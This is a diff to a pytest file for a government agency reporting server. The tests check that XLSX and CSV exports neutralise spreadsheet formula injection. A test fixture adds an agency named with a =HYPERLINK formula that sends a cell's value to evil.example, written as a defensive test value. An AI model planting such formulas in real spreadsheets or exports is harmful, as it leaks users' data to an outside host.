@@ -22,6 +22,8 @@ from cli import cli
 from tests.server.conftest import G22, H14, H41, Client, Network, make_network
 
 UNIT = "000.00.01.H41"
+FORMULA = "000.00.00.G12"
+"""An agency whose name a spreadsheet would run as a formula."""
 
 
 @pytest.fixture
@@ -30,6 +32,7 @@ def network(tmp_path: Path) -> Network:
     registry, store = made.registry()
     try:
         registry.add_agency(UNIT, "Sở Nội vụ tỉnh Nghệ An", parent=H41)
+        registry.add_agency(FORMULA, '=HYPERLINK("http://evil.example/?"&A5,"Bấm")')
     finally:
         store.close()
     return made
@@ -40,7 +43,7 @@ def test_periods() -> None:
     assert Period.parse("2026-12").end.isoformat() == "2027-01-01"
     assert Period.parse("2026-H2").start.isoformat() == "2026-07-01"
     assert (Period.parse("2026").start.isoformat(), Period.parse("2026").end.isoformat()) == ("2026-01-01", "2027-01-01")
-    for wrong in ("2026-13", "2026-Q5", "26-Q1", "Q3"):
+    for wrong in ("2026-13", "2026-Q5", "26-Q1", "Q3", "0000", "9999", "٢٠٢٦"):
         with pytest.raises(AxisError):
             Period.parse(wrong)
 
@@ -85,8 +88,10 @@ async def test_the_report_counts_what_was_sent_and_rolls_units_up(
         sheet = book.worksheets[0]
         cells = [[c for c in row] for row in sheet.iter_rows(values_only=True)]
         assert "BÁO CÁO" in str(cells[0][0])
-        by_id = {row[0]: row for row in cells if row and row[0] == G22}
+        by_id = {row[0]: row for row in cells if row and row[0] in (G22, FORMULA)}
         assert by_id[G22][2] == 3  # the sent column
+        assert str(by_id[FORMULA][1]).startswith("=HYPERLINK")  # kept as it is, in a text cell:
+        assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str))
         assert any(made["checkpoint"]["digest"] in str(row[0]) for row in cells if row and row[0])
         status, refused, _ = await Client(session, axis.url, sender_token).request("GET", "/v1/reports", params={"period": month})
         assert status == 403  # an endpoint does not read everyone's figures
@@ -100,3 +105,8 @@ async def test_the_report_counts_what_was_sent_and_rolls_units_up(
     table = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
     ids = [row[0] for row in table[3:] if row and row[0].startswith("000.")]
     assert ids == [H41, H41, UNIT]  # Nghệ An, Nghệ An with its unit, the unit: nothing else
+    result = CliRunner().invoke(
+        cli, ["--config", str(network.settings.path), "report", "--period", month, "--format", "csv", "-o", str(out)]
+    )
+    named = {row[0]: row[1] for row in csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))) if len(row) > 1}
+    assert named[FORMULA].startswith("'=")  # a spreadsheet shows it, never runs it
